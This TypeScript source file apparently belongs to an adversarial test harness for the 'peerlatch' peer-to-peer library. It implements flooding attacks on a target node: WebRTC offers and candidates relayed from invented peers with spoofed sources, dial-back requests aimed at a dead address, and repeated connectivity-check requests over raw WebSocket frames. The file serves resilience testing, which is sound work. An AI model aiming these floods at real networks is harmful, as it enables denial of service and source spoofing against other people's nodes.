/** Attacks with what peers ask for before there is a connection: signals of invented peers, dial-backs, probes. */

import { type PeerDescriptor, peerIdToBytes } from '@peerlatch/connection/peer';
import { bodyTypes, EnvelopeEncoder, encodePeerDescriptor, type OutgoingMessage } from '@peerlatch/connection/wire';
import { CROWD, PEERS } from '../plan/attack-plan.js';
import { field } from '../raw/fields.js';
import { type HostilePeer, inventedPeer, keepPeers } from '../raw/hostile-peer.js';
import { maskedFrame } from '../raw/masked-frame.js';
import type { SocketPool } from '../raw/socket-pool.js';
import { awaitUpgrade, upgradeHead } from '../raw/upgrade.js';
import type { Attack } from './attack.js';

/** Signals in one piece, and pieces per second and peer. */
const BATCH = 8;
const PER_SECOND = 200;

/** Nobody listens here. */
const NOWHERE = { host: '127.0.0.1', port: 9 };

const FINGERPRINT = Array.from({ length: 32 }, () => 'AB').join(':');

const OFFER = [
  'v=0',
  'o=- 1 1 IN IP4 127.0.0.1',
  's=-',
  't=0 0',
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
  'c=IN IP4 0.0.0.0',
  'a=mid:0',
  'a=setup:actpass',
  'a=ice-ufrag:abcd',
  'a=ice-pwd:abcdefghijklmnopqrstuvwx',
  `a=fingerprint:sha-256 ${FINGERPRINT}`,
  'a=sctp-port:5000',
  '',
].join('\r\n');

/** As a relay would bring it: nobody proves that `source` has ever said it. */
function relayed(pool: SocketPool, number: number, source: PeerDescriptor, message: OutgoingMessage): OutgoingMessage {
  const inner = new EnvelopeEncoder({
    source: encodePeerDescriptor(source),
    target: pool.target.self,
    messageIdPrefix: `i${number}-`,
  }).encode(message);
  const requestId = `q${process.pid}-${number}`;
  const body = Buffer.concat([
    field(1, requestId),
    field(2, encodePeerDescriptor(source)),
    field(3, peerIdToBytes(pool.target.self.id)),
    field(4, inner),
  ]);
  const bodyType = bodyTypes.routeMessageWrapper.typeName;
  return { kind: 'request', serviceId: 'peerlatch/relay', method: 'relayMessage', requestId, bodyType, body };
}

function pourRelayed(peer: HostilePeer, of: (number: number) => [PeerDescriptor, OutgoingMessage]): void {
  const { pool } = peer;
  const next = peer.batch(BATCH, (number) => relayed(pool, number, ...of(number)));
  pool.pour(peer.socket, next, PER_SECOND);
}

function offerOrCandidate(number: number): [PeerDescriptor, OutgoingMessage] {
  const connectionId = `c${number}`;
  const common = { kind: 'notification', serviceId: 'system/webrtc-connector' } as const;
  // Ids above and below the victim's: towards half of them it is the one that offers.
  const source = inventedPeer(500_000 + number);
  if (number % 2 === 0) {
    const { typeName: bodyType, encode } = bodyTypes.rtcOffer;
    const body = encode({ description: OFFER, connectionId });
    return [source, { ...common, method: 'rtcOffer', bodyType, body }];
  }
  const { typeName: bodyType, encode } = bodyTypes.iceCandidate;
  const body = encode({
    candidate: `candidate:1 1 UDP 1 127.0.0.1 9 typ host ${'x'.repeat(800)}`,
    mid: '0',
    connectionId,
  });
  return [source, { ...common, method: 'iceCandidate', bodyType, body }];
}

function dialBack(number: number): [PeerDescriptor, OutgoingMessage] {
  const { typeName: bodyType, encode } = bodyTypes.websocketConnectionRequest;
  const source = inventedPeer(500_000 + number, NOWHERE);
  const serviceId = 'system/websocket-connector';
  return [source, { kind: 'notification', serviceId, method: 'requestConnection', bodyType, body: encode({}) }];
}

const connectivityRequests: Attack = (pool) => {
  const { encode } = bodyTypes.connectivityRequest;
  const asked = encode({ port: NOWHERE.port, tls: false, host: NOWHERE.host, allowSelfSignedCertificate: true });
  const frame = maskedFrame(Buffer.concat([field(1, 'c'), field(4, 'system/connectivity-checker'), field(7, asked)]));
  pool.keep(CROWD, (socket) => {
    awaitUpgrade(socket, () => {
      socket.resume();
      pool.write(socket, frame);
    });
    pool.write(socket, upgradeHead(pool.target, { path: '/?action=connectivityRequest' }));
  });
};

export const signalAttacks = {
  signals: (pool) => keepPeers(pool, PEERS, (peer) => pourRelayed(peer, offerOrCandidate)),
  'dial-backs': (pool) => keepPeers(pool, PEERS, (peer) => pourRelayed(peer, dialBack)),
  'connectivity-requests': connectivityRequests,
} satisfies Record<string, Attack>;
